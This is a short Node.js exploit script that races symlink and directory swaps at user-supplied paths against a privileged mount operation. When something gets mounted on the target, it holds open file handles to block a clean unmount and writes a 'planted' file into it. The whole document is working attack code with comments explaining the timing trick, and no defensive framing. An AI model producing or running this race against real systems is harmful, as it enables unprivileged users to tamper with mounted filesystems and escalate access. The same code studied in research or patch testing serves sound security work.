// node swap.mjs TARGET PLACE…: as the user, puts a symlink to TARGET in each place, and a directory again, as fast as it can; what is
// mounted at TARGET it holds open, so that it cannot be unmounted politely.
import fs from 'node:fs';

const [target, ...places] = process.argv.slice(2);
const attempt = (work) => {
  try {
    work();
    return true;
  } catch {
    return false;
  }
};
const before = fs.statSync(target).dev;
const held = [];
for (let round = 0; ; round++) {
  for (const place of places) {
    const aside = `${place}.aside`;
    if (!attempt(() => fs.rmdirSync(place)) && !attempt(() => fs.renameSync(place, aside))) continue;
    attempt(() => fs.symlinkSync(target, place));
    // It stays so for a while: whoever looks at it and then goes there meets both.
    for (let wait = 0; wait < (round % 7) * 200; wait++);
    if (held.length < 20 && fs.statSync(target).dev !== before) {
      attempt(() => held.push(fs.openSync(target)));
      attempt(() => fs.writeFileSync(`${target}/planted`, 'by a user'));
      console.log('LED');
    }
    attempt(() => fs.unlinkSync(place));
    if (!attempt(() => fs.renameSync(aside, place))) attempt(() => fs.mkdirSync(place));
  }
}
